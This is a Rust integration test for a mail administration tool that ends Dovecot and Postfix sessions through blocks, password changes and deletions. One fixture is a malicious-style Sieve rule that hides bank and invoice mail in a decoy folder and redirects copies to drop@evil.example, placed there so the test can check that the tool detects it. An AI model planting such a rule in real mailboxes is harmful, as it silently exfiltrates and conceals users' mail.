//! Open sessions at a real Dovecot and a real Postfix: who is signed in is shown, and a block, a new password and a person
//! end it (checklist J1, J2, J3, J5, B4).

use std::io::Write;
use std::net::Ipv4Addr;
use std::process::{Command, Stdio};

use anyhow::{Context, Result};
use postern_engine::ports::Clock;
use postern_testkit::clock::WallClock;
use postern_testkit::servers;
use postern_testkit::servers::imap_client::ImapClient;
use postern_testkit::servers::site::Site;
use serde_json::Value;

use crate::world::{self, ANA, EVE, HOME, PASSWORD, ROB};

const OFFICE: Ipv4Addr = Ipv4Addr::new(127, 10, 0, 10);
const NEW_PASSWORD: &str = "amber kettle mountain 72";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sessions_are_shown_and_end_by_a_person_a_block_and_a_new_password() -> Result<()> {
    let with_cache = |site: &Site| {
        site.use_doveadm()?;
        site.host.add_to_dovecot_conf("auth_cache_size = 1 M\nauth_cache_ttl = 1 hour\n")
    };
    let prepared = world::site_prepared("sessions_are_shown_and_end", with_cache).await?;
    let Some(site) = prepared else { return Ok(()) };
    of_two_sessions_one_is_ended_and_one_stays(&site).await?;
    a_script_of_pigeonhole_is_read_back(&site)?;
    a_block_ends_imap_at_once_and_sending_at_the_next_recipient(&site).await?;
    a_new_password_ends_sessions_and_the_old_one_is_refused_from_the_next_attempt_on(&site).await?;
    a_deletion_ends_sessions(&site).await?;
    a_lost_line_to_dovecot_is_told_and_made_up_for(&site).await
}

async fn waiting(site: &Site, source: Ipv4Addr, login: &str) -> Result<ImapClient> {
    let mut client = ImapClient::connect(site.host.imap(), source).await?;
    let answer = client.sign_in(login, PASSWORD).await?;
    anyhow::ensure!(answer.starts_with("OK"), "{login}: {answer}\n{}", site.log());
    client.idle().await?;
    Ok(client)
}

/// The receipt of the sessions: how many it was.
fn ended(site: &Site, done: &Value, what: &str) -> Result<u64> {
    let receipts = done["receipts"].as_array().context("receipts")?;
    let of = |point: &str| receipts.iter().find(|receipt| receipt["point"] == point).cloned();
    let receipt = of("mail_sessions").with_context(|| format!("no receipt: {done}\n{}", site.log()))?;
    anyhow::ensure!(
        receipt["outcome"] == "done",
        "{receipt}\n{}\n{}",
        site.log(),
        site.host.log("dovecot.log")
    );
    if let Some(files) = of("dovecot_files") {
        let us = |receipt: &Value| receipt["latency_us"].as_i64();
        assert!(us(&files) <= us(&receipt), "first the files, then the sessions: {done}");
    }
    servers::say(&format!("{what}: ended after {} us", receipt["latency_us"]));
    receipt["messages"].as_u64().context("a count")
}

async fn of_two_sessions_one_is_ended_and_one_stays(site: &Site) -> Result<()> {
    let mut phone = waiting(site, HOME, ROB).await?;
    let mut office = waiting(site, OFFICE, ROB).await?;
    let mut ana = waiting(site, HOME, ANA).await?;
    let open = site.json(&["user", "sessions", ROB])?;
    let rows = open["mail"].as_array().with_context(|| format!("{open}\n{}", site.log()))?;
    let sources: Vec<_> =
        rows.iter().map(|row| (&row["protocol"], &row["source"], &row["connections"])).collect();
    assert_eq!(
        sources,
        [
            (&"imap".into(), &"127.10.0.9".into(), &1.into()),
            (&"imap".into(), &"127.10.0.10".into(), &1.into())
        ],
        "{open}"
    );
    assert!(rows.iter().all(|row| row["signed_in"].is_object()), "the history knows since when: {open}");
    let text = site.ok(&["user", "sessions", ROB])?;
    assert!(text.contains("IMAP") && text.contains("127.10.0.9"), "{text}");

    let started = WallClock.now();
    let done =
        site.json(&["user", "end-sessions", ROB, "--from", "127.10.0.10", "--reason", "a lost laptop"])?;
    assert_eq!(ended(site, &done, "one of two sessions")?, 1);
    assert!(office.farewell().await?.starts_with("* BYE"));
    servers::say(&format!("its client heard of it after {}", WallClock.now().since(started)));
    assert!(phone.wake().await?.starts_with("OK"), "the other one stays");
    assert!(ana.wake().await?.starts_with("OK"), "so does somebody else's");
    let text = site.ok(&["audit", "list", "--user", ROB])?;
    assert!(text.contains("a lost laptop"), "{text}");
    let again = site.ok(&["user", "end-sessions", ROB, "--reason", "all of them"])?;
    assert!(again.contains(ROB), "{again}");
    assert!(phone.farewell().await?.starts_with("* BYE"));
    Ok(())
}

const SCRIPT: &str = r#"require ["copy", "fileinto", "mailbox"];
if header :contains "subject" ["invoice", "bank"] {
  fileinto :create "RSS Feeds";
  stop;
}
redirect :copy "drop@evil.example";
"#;

fn a_script_of_pigeonhole_is_read_back(site: &Site) -> Result<()> {
    let none = site.ok(&["user", "rules", ROB])?;
    assert!(none.contains("No rule sends mail of rob@contoso.com on"), "{none}");
    let conf = site.host.folder().join("dovecot.conf");
    let mut put = Command::new("/usr/bin/doveadm")
        .arg("-c")
        .arg(conf)
        .args(["sieve", "put", "-u", ROB, "-a", "holiday"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()?;
    put.stdin.take().context("stdin is a pipe")?.write_all(SCRIPT.as_bytes())?;
    anyhow::ensure!(put.wait()?.success(), "{}", site.host.log("dovecot.log"));
    let read = site.json(&["user", "rules", ROB])?;
    assert_eq!(read["problems"], serde_json::json!([]), "{read}\n{}", site.host.log("dovecot.log"));
    assert_eq!(read["scripts"][0]["text"], SCRIPT);
    let forward = &read["forwards"][0];
    assert_eq!(
        (&forward["to"], &forward["reach"], &forward["keeps"], &forward["is_conditional"]),
        (&"drop@evil.example".into(), &"outside".into(), &true.into(), &false.into()),
        "{read}"
    );
    let told = site.ok(&["user", "rules", ROB])?;
    assert!(told.contains("A copy is forwarded out of the organisation, to drop@evil.example."), "{told}");
    assert!(told.contains("fileinto (hides mail)") && told.contains("RSS Feeds"), "{told}");
    Ok(())
}

async fn a_block_ends_imap_at_once_and_sending_at_the_next_recipient(site: &Site) -> Result<()> {
    let mut phone = waiting(site, HOME, ROB).await?;
    let mut ana = waiting(site, HOME, ANA).await?;
    let mut sending = site.host.submission(HOME).await?;
    anyhow::ensure!(sending.sign_in(ROB, PASSWORD).await?.code == 235, "{}", site.log());
    let before = sending.name_recipient(ROB, ANA).await?;
    anyhow::ensure!(before.is_positive(), "{before:?}\n{}", site.log());

    let started = WallClock.now();
    let done = site.json(&["signin", "block", ROB, "--reason", "taken over"])?;
    assert_eq!(ended(site, &done, "a block")?, 1);
    assert!(phone.farewell().await?.starts_with("* BYE"));
    servers::say(&format!("the waiting client heard of the block after {}", WallClock.now().since(started)));
    let refused = sending.command(&format!("RCPT TO:<{EVE}>")).await?;
    assert_eq!(refused.code, 421, "{refused:?}");
    assert!(refused.text.contains("Sign-in is blocked"), "{refused:?}");
    assert!(sending.command("NOOP").await.is_err(), "Postfix closed the connection");
    assert!(!site.signs_in(HOME, ROB, PASSWORD).await?);
    assert!(ana.wake().await?.starts_with("OK"));
    site.ok(&["signin", "allow", ROB, "--reason", "it was not"])?;
    Ok(())
}

async fn a_new_password_ends_sessions_and_the_old_one_is_refused_from_the_next_attempt_on(
    site: &Site,
) -> Result<()> {
    // Twice, so that a cache would have it.
    for _ in 0..2 {
        assert!(site.signs_in(HOME, ANA, PASSWORD).await?);
    }
    let mut phone = waiting(site, HOME, ANA).await?;
    let answered = site.run(
        &["--json", "user", "password", ANA, "--reason", "asked for it"],
        Some(&format!("{NEW_PASSWORD}\n")),
    )?;
    anyhow::ensure!(answered.code == 0, "{answered:?}\n{}", site.log());
    assert_eq!(ended(site, &serde_json::from_str(&answered.stdout)?, "a new password")?, 1);
    assert!(phone.farewell().await?.starts_with("* BYE"));
    assert!(!site.signs_in(HOME, ANA, PASSWORD).await?, "the old one, at the very next attempt");
    assert!(site.signs_in(HOME, ANA, NEW_PASSWORD).await?, "{}", site.log());
    Ok(())
}

async fn a_deletion_ends_sessions(site: &Site) -> Result<()> {
    let mut phone = waiting(site, HOME, EVE).await?;
    let done = site.json(&["user", "delete", EVE, "--yes", "--reason", "left the house"])?;
    assert_eq!(ended(site, &done, "a deletion")?, 1);
    assert!(phone.farewell().await?.starts_with("* BYE"));
    Ok(())
}

async fn a_lost_line_to_dovecot_is_told_and_made_up_for(site: &Site) -> Result<()> {
    let mut phone = waiting(site, HOME, ROB).await?;
    let socket = site.host.folder().join("dv/http");
    let away = socket.with_extension("away");
    std::fs::rename(&socket, &away)?;
    let answered = site.run(&["signin", "block", ROB, "--reason", "taken over"], None)?;
    assert_eq!(answered.code, 0, "the block itself holds: {answered:?}");
    assert!(answered.stdout.contains("nobody answers at"), "{answered:?}");
    let health = site.json(&["health"])?;
    let points = health["points"].as_array().context("points")?;
    let point = points.iter().find(|it| it["point"] == "mail_sessions").context("one more connection")?;
    assert_eq!(point["is_failing"], true, "{point}");
    std::fs::rename(&away, &socket)?;
    assert!(phone.farewell().await?.starts_with("* BYE"), "tried again");
    Ok(())
}
